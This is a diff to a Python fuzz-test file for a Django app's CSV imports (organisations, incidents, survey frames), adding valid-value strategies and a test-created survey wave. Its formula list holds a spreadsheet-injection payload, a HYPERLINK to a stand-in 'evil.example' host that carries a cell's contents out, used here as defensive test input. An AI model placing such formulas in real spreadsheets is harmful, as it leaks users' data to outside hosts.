@@ -11,8 +11,10 @@ file and an oversized one.
 
 Imports: ``vib organisations import``, ``vib incidents import`` (CSV) and the survey frame
 import (``surveys.services.frame_import_csv``: the command-line ``vib surveys`` has no frame
-import; the web upload calls this service). Files: the right header with fuzzed cells, encoded
-as UTF-8, UTF-8 with BOM, latin-1 or UTF-16; random bytes; polyglots; an oversized file.
+import; the web upload calls this service), into a wave the test creates through the services
+(the demo's only wave, 2016, is closed). Files: the right header with fuzzed cells, encoded
+as UTF-8, UTF-8 with BOM, latin-1 or UTF-16 (some rows valid, so the write path runs too);
+random bytes; polyglots; a broken workbook; an oversized file.
 Either the import succeeds or it stops with a message (``CommandError``, the service's error)
 and the row counts are unchanged.
 
@@ -21,7 +23,6 @@ Bounded: a few dozen examples per target (about a minute with the shared demo).
 
 from __future__ import annotations
 
-import csv
 import io
 import re
 from html.parser import HTMLParser
@@ -32,7 +33,7 @@ import pytest
 from django.core.cache import cache
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.core.management import CommandError, call_command
-from hypothesis import HealthCheck, given, settings
+from hypothesis import HealthCheck, event, given, settings
 from hypothesis import strategies as st
 
 pytestmark = pytest.mark.django_db
@@ -44,6 +45,9 @@ FUZZ = settings(
     derandomize=True,
     suppress_health_check=list(HealthCheck),
 )
+# The imports are cheap to run (no page to render): twice the examples, so that enough
+# files pass and the write path is fuzzed as well as the refusals.
+IMPORT_FUZZ = settings(FUZZ, max_examples=30)
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
@@ -201,12 +205,13 @@ def _client_for(client: Any, user: Any | None) -> Any:
 def organisation(demo) -> Any:
     from vib.accounts.models import RoleAssignment
 
-    return (
+    assignment = (
         RoleAssignment.objects.filter(user__email="medewerker@demo.vib.nl")
         .exclude(organisation=None)
         .first()
-        .organisation
     )
+    assert assignment is not None
+    return assignment.organisation
 
 
 @FUZZ
@@ -263,29 +268,48 @@ def test_side_activity_declaration(client, people, data) -> None:
 # --- the imports ---------------------------------------------------------------------------
 
 ENCODINGS = ["utf-8", "utf-8-sig", "latin-1", "utf-16"]
+Valid = dict[str, st.SearchStrategy[str]]
 
 
-def csv_bytes(data: st.DataObject, header: list[str]) -> bytes:
-    shape = data.draw(st.sampled_from(["cells", "cells", "random", "polyglot", "oversized"]))
+def csv_bytes(data: st.DataObject, header: list[str], valid: Valid | None = None) -> bytes:
+    """A file for an import: random bytes, a polyglot, a broken workbook (a zip's magic
+    number, then anything), an oversized field, or rows of cells.
+
+    ``valid`` gives, per column, values the import accepts. A "clean" file (UTF-8) takes
+    them for every column that has them, so it can pass and the write path is fuzzed
+    through the free-text columns; in other files half the rows do, the rest mix them with
+    fuzzed cells.
+    """
+    valid = valid or {}
+    shapes = ["cells", "cells", "random", "polyglot", "zip", "oversized"]
+    shape = data.draw(st.sampled_from(["clean"] * 3 + shapes if valid else shapes))
     if shape == "random":
         return data.draw(st.binary(max_size=2000))
     if shape == "polyglot":
         return PDF_ZIP_HTML + b"\n" + ",".join(header).encode() + b"\n"
+    if shape == "zip":
+        return b"PK\x03\x04" + data.draw(st.binary(max_size=2000))
     if shape == "oversized":
         return (",".join(header) + "\n").encode() + b"x" * (6 * 1024 * 1024)
-    rows = data.draw(
-        st.lists(
-            st.lists(text_values, min_size=len(header), max_size=len(header)),
-            min_size=1,
-            max_size=4,
+    rows = []
+    for _row in range(data.draw(st.integers(1, 2 if shape == "clean" else 4))):
+        clean = shape == "clean" or data.draw(st.booleans())
+        rows.append(
+            [
+                data.draw(
+                    valid[column]
+                    if column in valid and (clean or data.draw(st.booleans()))
+                    else text_values
+                )
+                for column in header
+            ]
         )
-    )
     text = (
         ",".join(header)
         + "\n"
         + "\n".join(",".join('"' + cell.replace('"', '""') + '"' for cell in row) for row in rows)
     )
-    encoding = data.draw(st.sampled_from(ENCODINGS))
+    encoding = data.draw(st.sampled_from(ENCODINGS[:2] if shape == "clean" else ENCODINGS))
     return text.encode(encoding, errors="replace")
 
 
@@ -295,25 +319,21 @@ def run_import(tmp_path: Path, content: bytes, argv: list[str], models: tuple[st
     before = counts(*models)
     out, err = io.StringIO(), io.StringIO()
     refused: str | None = None
-    escaped: str | None = None
     try:
         call_command(*argv, str(path), stdout=out, stderr=err)
-    except csv.Error as exc:
-        escaped = str(exc)
     except CommandError as exc:
         refused = str(exc).strip() or "(no message)"
     except SystemExit as exc:  # argparse or the command itself
         refused = f"exit {exc.code}" if exc.code not in (0, None) else None
-    if refused is not None or escaped is not None:
+    event("refused" if refused is not None else "imported")
+    if refused is not None:
         assert counts(*models) == before, "a refused import wrote rows"
         assert refused != "(no message)", "an import refused without saying why"
-    if escaped is not None:
-        # Known bug, reported: a field over csv's 128 KiB limit escapes as a traceback
-        # (organisations/services.py read_csv, incidents/imports.py _csv_rows).
-        pytest.xfail(f"csv.Error escapes the import: {escaped}")
+    else:
+        assert all(counts(*models)[m] >= before[m] for m in models)
 
 
-@FUZZ
+@IMPORT_FUZZ
 @given(data=st.data())
 def test_organisations_import(demo, tmp_path_factory, data) -> None:
     header = ["code", "name", "tier", "province_code", "inhabitants", "staff", "reference_date"]
@@ -326,55 +346,123 @@ def test_organisations_import(demo, tmp_path_factory, data) -> None:
     )
 
 
-@FUZZ
+def _incident_values() -> Valid:
+    from vib.incidents import codes
+
+    def one_of(choices: Any) -> st.SearchStrategy[str]:
+        return st.sampled_from(list(choices.values))
+
+    return {
+        "datum_tijd": st.sampled_from(["14-03-2025 10:30", "2025-04-01T21:15", "2024-01-02"]),
+        "soorten": st.lists(one_of(codes.IncidentType), min_size=1, max_size=3).map(",".join),
+        "kanaal": st.sampled_from(
+            [c for c in codes.Channel.values if c != codes.Channel.SOCIAL_MEDIA]
+        ),
+        "ernst": one_of(codes.Severity),
+        "plaats": one_of(codes.PlaceKind),
+        "organisatie": st.just(""),
+        "eenheid": st.just(""),
+        "status": one_of(codes.Status),
+        "gemeld_op": st.just(""),
+        "platform": st.just(""),
+        "slachtoffergroepen": one_of(codes.VictimGroup),
+        "schade_euro": st.sampled_from(["", "0", "12,50", "1.234,56"]),
+        "verhaald_euro": st.just(""),
+        "politie": st.sampled_from(["", *codes.PoliceReportKind.values]),
+        "vpt": st.sampled_from(["", "ja", "nee"]),
+        # locatie, omschrijving, bron, extern_id, referentie, nazorg_open: always fuzzed
+    }
+
+
+@IMPORT_FUZZ
 @given(data=st.data())
 def test_incidents_import(demo, organisation, tmp_path_factory, data) -> None:
     from vib.incidents.imports import COLUMNS
 
-    content = csv_bytes(data, list(COLUMNS))
+    content = csv_bytes(data, list(COLUMNS), _incident_values())
     run_import(
         tmp_path_factory.mktemp("inc"),
         content,
         ["incidents", "import", "--organisation", organisation.code],
-        ("incidents.Incident",),
+        ("incidents.Incident", "incidents.Victim", "incidents.Transition"),
     )
 
 
-@FUZZ
+@pytest.fixture
+def frame_wave(people) -> Any:
+    """A wave of this year whose frame is open (the demo's only wave, 2016, is closed)."""
+    import datetime as dt
+
+    from vib.accounts.models import RoleAssignment
+    from vib.surveys import services
+
+    monitor = people["monitor"]
+    owner = RoleAssignment.objects.filter(user=monitor).exclude(organisation=None).first()
+    assert owner is not None
+    assert owner.organisation is not None
+    today = dt.date.today()
+    wave = services.wave_create(
+        actor=monitor,
+        organisation=owner.organisation,
+        edition=today.year,
+        title="Fuzz wave",
+        field_start=today,
+        field_end=today + dt.timedelta(days=30),
+        instruments=["office_holders-2016.1", "employees-2016.1", "organisations-2016.1"],
+    )
+    services._frame_open(wave)  # raises when it is not open
+    return wave
+
+
+def _frame_values() -> Valid:
+    from vib.organisations.models import Organisation, Tier
+    from vib.surveys import strata
+
+    codes = list(Organisation.objects.order_by("code").values_list("code", flat=True)[:20])
+    return {
+        "instrument": st.sampled_from(["office_holders", "employees", "organisations"]),
+        "email": st.one_of(
+            *[st.emails().map(str)] * 3,
+            st.builds(lambda local: f"{local}@example.nl", text_values),  # near misses
+        ),
+        "tier": st.sampled_from(list(Tier.values)),
+        "organisation": st.sampled_from(["", "", *codes]),
+        "function": st.sampled_from(list(strata.FUNCTIONS)),
+        "gender": st.sampled_from(["", *strata.GENDERS]),
+    }
+
+
+@IMPORT_FUZZ
 @given(data=st.data())
-def test_survey_frame_import(demo, people, data) -> None:
+def test_survey_frame_import(people, frame_wave, data) -> None:
     from django.core.exceptions import ValidationError
+    from django.core.validators import validate_email
 
     from vib.surveys import services
-    from vib.surveys.models import Wave
+    from vib.surveys.models import Invitation
 
-    waves = [w for w in Wave.objects.all() if _frame_open(services, w)]
-    if not waves:
-        pytest.skip("no survey wave with an open frame in the demo")
-    header = ["instrument", "email", "tier", "organisation", "function", "gender"]
-    content = csv_bytes(data, header)
+    header = list(services.CSV_COLUMNS)
+    content = csv_bytes(data, header, _frame_values())
     before = counts("surveys.Invitation")
     messages: list[str] | None = None
     try:
-        services.frame_import_csv(actor=people["monitor"], wave=waves[0], file=io.BytesIO(content))
+        result = services.frame_import_csv(
+            actor=people["monitor"], wave=frame_wave, file=io.BytesIO(content)
+        )
     except services.FrameImportError as exc:
         messages = [str(e) for e in exc.errors]
     except ValidationError as exc:
         messages = list(exc.messages)
+    event("refused" if messages is not None else "imported")
     if messages is not None:
         assert messages
         assert all(m.strip() for m in messages)
         assert counts("surveys.Invitation") == before
-
-
-def _frame_open(services: Any, wave: Any) -> bool:
-    from django.core.exceptions import ValidationError
-
-    try:
-        services._frame_open(wave)
-    except ValidationError:
-        return False
-    return True
+    else:
+        after = counts("surveys.Invitation")["surveys.Invitation"]
+        assert after == before["surveys.Invitation"] + result.added
+        for email in Invitation.objects.filter(wave=frame_wave).values_list("email", flat=True):
+            validate_email(email)  # only addresses mail can go to entered the frame
 
 
 def test_formula_cells_are_not_exported_live() -> None:
